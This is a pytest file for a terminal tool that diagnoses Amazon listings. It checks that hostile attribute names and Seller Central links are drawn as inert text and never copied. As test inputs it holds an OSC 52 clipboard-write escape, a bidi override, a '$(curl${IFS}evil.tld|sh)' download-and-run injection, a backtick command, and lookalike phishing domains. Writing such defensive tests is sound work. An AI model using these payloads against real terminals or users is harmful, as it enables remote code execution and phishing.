"""Amazon's data where the screens use it as a name or a link (session 9's attack).

An attribute's name comes from an issue's ``attributeNames``: the cause view's words, the bulk
grid's title and its column headings ("brand now", "brand"). The headings were drawn raw (an
``ESC]52`` in the name reached the terminal: a clipboard write) and as wide as the name (a
10,000-character name left no column in view). A finding's link to Seller Central is what the
detail's c copies: a link holding a quote, ``$(…)``, brackets, an escape shown as text or
100,000 characters is shown, never copied."""

from __future__ import annotations

from dataclasses import replace

import pytest
from textual.widgets import OptionList

from asin_tui.domain import codes
from asin_tui.domain.models import Category, Diagnosis, State, WizardStep
from asin_tui.domain.text import unsafe_chars
from asin_tui.ui import evidence_text
from asin_tui.ui.app import make_app
from asin_tui.ui.screens.bulk import BulkScreen
from asin_tui.ui.screens.causes import CauseScreen
from tests.ui.conftest import settle
from tests.ui.fakes import AS_OF_NOW, US, FakeService, finding, make_records, progress_of

#: OSC 52 (a clipboard write), markup, a bidi override, then 10,000 more characters
NAME = "bra\x1b]52;c;ZXZpbA==\x07nd[b]x[/]\u202eevil" + "W" * 10_000
SHOWN = "bra\\x1b]52;c;ZXZpbA==\\x07nd[b]x[/]"  # how the name is drawn


def hostile_name_records():
    records = []
    for record in make_records(12):
        if record.findings and record.findings[0].code == codes.MISSING_ATTRIBUTE:
            gap = replace(record.findings[0], attributes=(NAME,))
            record = replace(record, findings=(gap,))
        records.append(record)
    return records


def screen(app) -> tuple[list[str], str]:
    strips = app.screen._compositor.render_strips()
    rows = ["".join(segment.text for segment in strip) for strip in strips]
    return rows, "".join(segment.text for strip in strips for segment in strip)


async def test_an_attribute_name_from_amazon_is_text_and_cut_in_the_causes_and_the_grid():
    service = FakeService(hostile_name_records())
    app = make_app(lambda: service, case_labels_loader=progress_of, timing=AS_OF_NOW)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        assert unsafe_chars(screen(app)[1]) == []  # the list: "Missing: bra\x1b…"
        await pilot.press("v")
        await settle(pilot)
        causes = app.screen
        assert isinstance(causes, CauseScreen)
        at = next(i for i, c in enumerate(causes.causes) if NAME in c.label)
        rows, drawn = screen(app)
        assert unsafe_chars(drawn) == []
        assert sum("W" * 20 in row for row in rows) <= 2, "\n".join(rows)  # cut, not 160 rows
        assert any(c.label == "Out of stock" for c in causes.causes[at + 1 :])
        assert any(row.find("Out of stock") > 0 for row in rows), "the causes under it in view"
        causes.query_one(OptionList).highlighted = at
        await pilot.press("b")
        await settle(pilot)
        assert isinstance(app.screen, BulkScreen)
        for key in ("", "right", "enter"):  # the grid, its last column, the cell's editor
            if key:
                await pilot.press(key)
                await settle(pilot)
            rows, drawn = screen(app)
            assert unsafe_chars(drawn) == [], [c for c in unsafe_chars(drawn)][:3]
            heading = next(i for i, row in enumerate(rows) if row.lstrip().startswith("SKU "))
            assert SHOWN in rows[heading] and "…" in rows[heading], rows[heading]
            assert heading <= 4, "\n".join(rows)  # the title cut: two lines, not a screenful
            below = [row.strip() for row in rows[heading + 1 : heading + 3]]
            assert [row[:8] for row in below] == ["SKU-0000", "SKU-0007"], "\n".join(rows)


SITE = "https://sellercentral.amazon.com"
GOOD = f"{SITE}/hz/approvalrequest/restrictions/approve?asin=B0000ASIN1"


def approval(link: str):
    return replace(
        finding(codes.APPROVAL_REQUIRED, "Approval required", Category.RESTRICTION),
        detail=f"Restricted in condition New: You cannot list it. Approval link: {link}",
        fix=f"Reactivation wizard → Policy compliance: request approval at {link}.",
        step=WizardStep.POLICY,
    )


def diagnosis(link: str) -> Diagnosis:
    return Diagnosis("SKU-1", "B0000ASIN1", US, State.SUPPRESSED, False, False, (approval(link),))


@pytest.mark.parametrize(
    "link",
    [
        f"{SITE}/hz/a?asin=\x1b]52;c;ZXZpbA==\x07",  # shown as "\x1b]52…": text, not a link
        f"{SITE}/hz/a?asin=B0\u202e1NISA",
        f"{SITE}/hz/a?asin=B0\x00",
        f"{SITE}/hz/a?x=[b]bold[/]",
        f"{SITE}/hz/a?x=$(curl${{IFS}}evil.tld|sh)",
        f"{SITE}/hz/a?x='`id`'",
        f"{SITE}/hz/{'a' * 100_000}",
        f"{SITE}.evil.tld/hz/approve",
        f"{SITE}@evil.tld/hz/approve",
        "https://sellercentrаl.amazon.com/hz/approve",  # a Cyrillic а
        "http://sellercentral.amazon.com/hz/approve",
    ],
)
def test_a_finding_link_that_is_not_a_plain_seller_central_link_is_shown_never_copied(link):
    lines = evidence_text.findings(diagnosis(link), SITE)
    words = " ".join(line.plain for line in lines)
    assert evidence_text.COPY_HINT not in words
    assert evidence_text.copied_link(lines, SITE) is None


def test_amazons_approval_link_is_copied_whole():
    lines = evidence_text.findings(diagnosis(GOOD), SITE)
    assert evidence_text.COPY_HINT in " ".join(line.plain for line in lines)
    assert evidence_text.copied_link(lines, SITE) == GOOD


def test_a_message_with_thousands_of_links_gives_ten_link_lines_and_keeps_the_rest():
    """Amazon's message is any length: each of its links was a line (a widget) of its own,
    taken apart with a replace over the whole text per link (20,000 links: 7 s)."""
    links = [f"https://example.com/{i}" for i in range(3_000)]
    message = replace(approval(GOOD), detail="See " + " ".join(links) + ".", fix="Read them.")
    diagnosis = Diagnosis("SKU-1", None, US, State.SUPPRESSED, False, False, (message,))
    lines = [line.plain for line in evidence_text.findings(diagnosis, SITE)]
    apart = [line.strip() for line in lines if evidence_text.is_link_line(line)]
    assert apart == links[: evidence_text.LINKS_APART]
    assert lines[1].strip().startswith("See") and lines[1].endswith(f"{links[-1]}.")
